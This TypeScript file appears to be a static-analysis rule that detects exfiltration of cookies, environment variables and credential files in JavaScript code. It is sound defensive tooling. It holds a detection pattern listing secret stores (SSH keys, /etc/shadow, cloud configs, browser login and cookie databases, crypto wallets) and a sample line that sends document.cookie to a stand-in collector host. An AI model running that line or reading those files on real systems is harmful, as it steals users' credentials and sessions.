import type { Abstract, CallEvent, Taint } from '../../flow/index.ts';
import type { Rule, RuleContext } from '../rule.ts';
import { javascriptLanguages } from './languages.ts';

const SENDERS = [
  'global.fetch',
  'axios',
  'axios.post',
  'axios.put',
  'axios.get',
  'axios.request',
  'got.post',
  'got',
  'request',
  'request.post',
  'superagent.post',
  'needle.post',
  'needle',
  'undici.request',
  'global.navigator.sendBeacon',
  'http.get',
  'https.get',
  'http.request',
  'https.request',
  'dns.lookup',
  'dns.resolve',
  'dns.resolveTxt',
  'global.WebSocket',
  '**.sendBeacon',
];

/** Whatever is written there was about a secret: `token` of an account is what a request is for, all cookies are not. */
const TAKEN = /^(?:a cookie|the browser’s storage)$/;

/** Files nobody but their owner's programs should read. */
const SENSITIVE =
  /(?:^|[\\/~*])\.(?:ssh|aws|gnupg|kube|docker|azure|config[\\/]gcloud)(?:[\\/]|$)|\/etc\/(?:shadow|passwd|sudoers)\b|(?:^|[\\/*])(?:id_rsa|id_ed25519|\.npmrc|\.netrc|\.pypirc|\.git-credentials|\.bash_history|\.zsh_history|wallet\.dat|Login Data|Cookies|logins\.json|key4\.db)$/;

export const exfiltrationRule: Rule = {
  id: 'PW-JS-EXFILTRATION',
  title: 'Secrets of the machine or the page are taken away',
  category: 'exfiltration',
  cwe: 200,
  severity: 'error',
  confidence: 'medium',
  languages: javascriptLanguages,
  docs: {
    risk: 'Keys, cookies and the environment give whoever gets them the rights of the user everywhere.',
    remedy: 'Send what the service needs and nothing else, and name it.',
    bad: "fetch('https://collect.example.org/?c=' + document.cookie);",
    good: "fetch('https://api.example.org/items', { method: 'POST', body: JSON.stringify({ id }) });",
  },
  watches: [
    { on: 'call', of: SENDERS, check: checkSent },
    {
      on: 'write',
      of: ['**.src', 'global.location', 'global.location.href'],
      check: (write, context) => {
        const taint = context.values.taintOf(write.value, 'exfiltration');
        if (isTaken(taint) && write.value.text !== undefined) {
          context.report(write.node, {
            message: `${taint?.source ?? ''} is sent away in an address.`,
            taint,
          });
        }
      },
    },
    {
      on: 'call',
      of: [
        'fs.readFile',
        'fs.readFileSync',
        'fs.createReadStream',
        'fs.readdirSync',
        'fs.readdir',
        'fs.copyFileSync',
        'fs.copyFile',
      ],
      check: (call, context) => {
        const path = call.args[0] && context.values.patternOf(call.args[0].value);
        if (path === undefined || !SENSITIVE.test(path)) return;
        context.report(call.node, {
          message: `\`${path}\` holds secrets of the machine’s user.`,
          severity: 'warning',
        });
      },
    },
  ],
};

function isTaken(taint: Taint | undefined): boolean {
  return taint !== undefined && TAKEN.test(taint.source);
}

function checkSent(call: CallEvent, context: RuleContext): void {
  const { values } = context;
  for (const { value } of call.args) {
    for (const part of partsOf(value, 0)) {
      const taint = values.taintOf(part, 'exfiltration');
      const isWholeEnvironment =
        values.pathsOf(part).includes('global.process.env') ||
        (taint?.source === 'the environment' &&
          /\bprocess\.env\b(?!\s*[.[])/.test(context.textOf(call.node)));
      if (!isWholeEnvironment && !(taint?.source === 'a cookie')) continue;
      context.report(call.node, {
        message: `${isWholeEnvironment ? 'The whole environment' : 'All cookies of the page'} are sent away here.`,
        taint,
      });
      return;
    }
  }
}

function partsOf(value: Abstract, depth: number): readonly Abstract[] {
  if (value.fields === undefined || depth > 2) return [value];
  return [value, ...[...value.fields.values()].flatMap(one => partsOf(one, depth + 1))];
}
